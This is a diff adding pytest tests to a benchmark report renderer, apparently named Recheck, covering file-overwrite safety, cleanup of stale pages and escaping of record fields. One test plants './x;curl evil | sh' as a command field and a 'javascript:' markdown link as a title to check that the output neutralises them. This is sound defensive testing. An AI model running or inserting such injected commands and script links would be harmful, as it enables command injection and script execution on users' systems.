@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import subprocess
 from collections.abc import Callable, Iterator
@@ -10,7 +11,7 @@ from pathlib import Path
 
 import pytest
 from conftest import one_line, run, tree
-from synthetic import SHAPES, SMALL, make_record, spoil
+from synthetic import SHAPES, SMALL, make_matvec, make_record, spoil
 
 
 def test_rendering_in_place_changes_nothing(report: Callable[..., str], tmp_path: Path) -> None:
@@ -21,12 +22,82 @@ def test_rendering_in_place_changes_nothing(report: Callable[..., str], tmp_path
     assert result.returncode == 0 and tree(tmp_path / "report") == before
 
 
+@pytest.mark.parametrize("name", ["record.json", "report.html", "charts/claims.svg"])
+def test_where_no_report_is_no_file_is_overwritten(
+    name: str, report: Callable[..., str], tmp_path: Path
+) -> None:
+    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
+    other = tmp_path / "other"
+    (other / name).parent.mkdir(parents=True)
+    (other / name).write_bytes(b"mine")
+    result = run("render", tmp_path / "report", "--output", other)
+    assert f"{name}: is there, and no report beside it" in one_line(result, 1)
+    assert tree(other) == {name: b"mine"}
+    # its own bytes do not stand in its way: a run's folder becomes its report
+    (other / name).write_bytes((tmp_path / "report" / name).read_bytes())
+    assert run("render", tmp_path / "report", "--output", other).returncode == 0
+
+
+def test_a_folder_may_be_called_like_a_file(report: Callable[..., str], tmp_path: Path) -> None:
+    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
+    folder = shutil.move(tmp_path / "report", tmp_path / "probes_of_mine")
+    assert run("render", folder, "--output", tmp_path / "again").returncode == 0
+
+
+def test_what_a_record_says_is_no_command_and_no_link(
+    report: Callable[..., str], tmp_path: Path
+) -> None:
+    record = make_record(SMALL[:2], strategies=["cpu_blas", "tile16"])
+    record["environment"]["command"] = "./x;curl evil | sh"
+    record["experiments"][0]["title"] = "[x](javascript:alert(1))"
+    text = report(record)
+    lines = "\n".join(re.findall(r"```sh\n(.*?)```", text, re.S)).split("\n")
+    assert len(lines) > 5 and not any("curl" in line.split("#")[0] for line in lines)
+    assert not re.search(r"(?<!\\)\]\(javascript", text)
+
+
 def test_old_charts_go_and_foreign_files_stay(report: Callable[..., str], tmp_path: Path) -> None:
     report(make_record(SMALL))
     charts = tmp_path / "report" / "charts"
     (charts / "mine.svg").write_text("<svg/>")
     report(make_record(SMALL, gpu=False), drawn=True)
     assert sorted(path.name for path in charts.iterdir()) == ["matmul_cpu_gpu.svg", "mine.svg"]
+
+
+def test_reports_of_other_records_go_and_what_is_not_ours_stays(
+    report: Callable[..., str], tmp_path: Path
+) -> None:
+    folder, few = tmp_path / "report", ["cpu_blas", "tile16"]
+    report(
+        make_record(SMALL[:2], gpu=False, strategies=few), make_record(SMALL[:2], strategies=few)
+    )
+    there = folder / "beside" / "nvidia-h200"
+    assert (there / "record.json").exists() and (there / "matmul.md").exists()
+    (there / "notes.txt").write_text("mine")
+    (folder / "beside" / "theirs").mkdir()
+    (folder / "beside" / "theirs" / "README.md").write_text("# Theirs\n")
+    (folder / "notes.md").write_text("# Mine\n")
+    report(make_record(SMALL[:2], strategies=few))
+    left = {name for name in tree(folder) if name.startswith("beside/")}
+    assert left == {"beside/nvidia-h200/notes.txt", "beside/theirs/README.md"}
+    assert (folder / "notes.md").read_text() == "# Mine\n" and not (there / "charts").exists()
+
+
+def test_a_page_of_an_experiment_that_is_gone_goes(
+    report: Callable[..., str], tmp_path: Path
+) -> None:
+    report(make_matvec([(64, 64)]))
+    assert (tmp_path / "report" / "matvec.md").exists()
+    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
+    assert not (tmp_path / "report" / "matvec.md").exists()
+
+
+def test_a_foreign_page_is_not_overwritten(save: Callable[..., Path], tmp_path: Path) -> None:
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "claims.md").write_text("# My claims\n")
+    line = one_line(run("render", save(make_record(SMALL)), "--output", tmp_path / "out"), 1)
+    assert "claims.md: is not a report of Recheck" in line
+    assert tree(tmp_path / "out") == {"claims.md": b"# My claims\n"}
 
 
 def test_foreign_readme_is_not_overwritten(save: Callable[..., Path], tmp_path: Path) -> None:
